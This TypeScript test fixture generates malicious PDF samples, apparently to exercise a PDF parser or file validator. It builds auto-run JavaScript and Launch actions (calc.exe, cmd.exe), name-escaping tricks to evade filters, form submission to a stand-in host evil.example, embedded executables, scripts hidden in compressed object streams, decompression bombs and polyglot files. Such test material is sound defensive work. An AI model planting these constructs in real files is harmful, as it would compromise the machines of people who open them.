import { deflateSync } from 'node:zlib';
import { file, payload, text } from './hostile-file.ts';
import { zipOf } from './hostile-pictures.ts';
import { packedBlanks, pdfWith } from './pdf-with.ts';

const script = '(app.alert\\(1\\))';

/** An object stream: objects that are compressed together (ISO 32000, 7.5.7). */
const objectStream = (objects: string, more = '') => {
  const packed = deflateSync(objects).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${more} /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
};

const catalogs: Record<string, string> = {
  'a script when it opens': `/OpenAction << /S /JavaScript /JS ${script} >>`,
  'a script under an escaped name': `/OpenAction << /S /J#61vaScript /JS ${script} >>`,
  'named scripts': `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>`,
  'a script when it is printed': `/AA << /WP << /S /JavaScript /JS ${script} >> >>`,
  'a program to start': '/OpenAction << /S /Launch /F (calc.exe) >>',
  'a program under an escaped name': '/OpenAction << /S /L#61unch /Win << /F (cmd.exe) >> >>',
  'an address to open': '/OpenAction << /S /URI /URI (https://evil.example/) >>',
  files: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
  'a form in XML': '/AcroForm << /XFA [(template) 6 0 R] /Fields [] >>',
  'a form that is sent': '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>',
  'another document inside': '/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>',
  'a film': '/OpenAction << /S /Rendition /OP 0 >>',
  'a page tree without an end': '/Pages 6 0 R',
};

const extras: Record<string, string> = {
  'an attached file': `<< /Type /EmbeddedFile /Length 4 >>\nstream\nevil\nendstream`,
  'a film on a page': '<< /Type /Annot /Subtype /RichMedia >>',
  'a link that starts a program': '<< /Type /Annot /Subtype /Link /A << /S /Launch /F (a.exe) >> >>',
  'a script among compressed objects': objectStream(`6 0 << /S /JavaScript /JS ${script} >>`),
  'a program among compressed objects': objectStream('6 0 << /S /Launch /F (calc.exe) >>'),
  'a script behind a predictor': objectStream('x', '/DecodeParms << /Predictor 12 /Columns 4 >>'),
  'a page in a string': `(${payload})`,
};

const contents: Record<string, Parameters<typeof pdfWith>[0]> = {
  '2 GB in a stream': { text: packedBlanks(200), filter: '/Filter /FlateDecode' },
  'a stream packed twice': {
    text: deflateSync(Buffer.from(packedBlanks(200), 'latin1')).toString('latin1'),
    filter: '/Filter [/FlateDecode /FlateDecode]',
  },
  'a page of 3 thousand million points': { mediaBox: '0 0 3000000000 3000000000' },
  'a page without a size': { mediaBox: '0 0 0 0' },
  'a page of negative size': { mediaBox: '100 100 -100 -100' },
  'a million lines to draw': { text: '0 0 m 300 200 l S\n'.repeat(400_000) },
  'a hundred thousand nested states': { text: 'q '.repeat(500_000) },
};

const whole = pdfWith();
const trailers: Record<string, Buffer> = {
  protection: Buffer.from(
    whole.toString('latin1').replace('/Root', '/Encrypt << /Filter /Standard /V 1 /R 2 >> /Root'),
    'latin1',
  ),
  'a page before it': Buffer.concat([text(`${payload}\n`), whole]),
  'a page behind it': Buffer.concat([whole, text(`\n${payload}`)]),
  'a ZIP behind it': Buffer.concat([whole, zipOf(text(payload))]),
  'nothing but a head': text('%PDF-1.7\n'),
  'a page after its head': text(`%PDF-1.7\n${payload}\n%%EOF`),
  'a tenth of its bytes': whole.subarray(0, whole.byteLength / 10),
  'half of its bytes': whole.subarray(0, whole.byteLength / 2),
};

/** PDFs that run or carry something, or are far larger than their file. */
export const hostilePdfs = [
  ...Object.entries(catalogs).map(([what, open]) =>
    file(`pdf with ${what}`, () => pdfWith({ open, extra: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' })),
  ),
  ...Object.entries(extras).map(([what, extra]) => file(`pdf with ${what}`, () => pdfWith({ extra }))),
  ...Object.entries(contents).map(([what, parts]) => file(`pdf with ${what}`, () => pdfWith(parts))),
  ...Object.entries(trailers).map(([what, bytes]) => file(`pdf with ${what}`, () => bytes)),
];
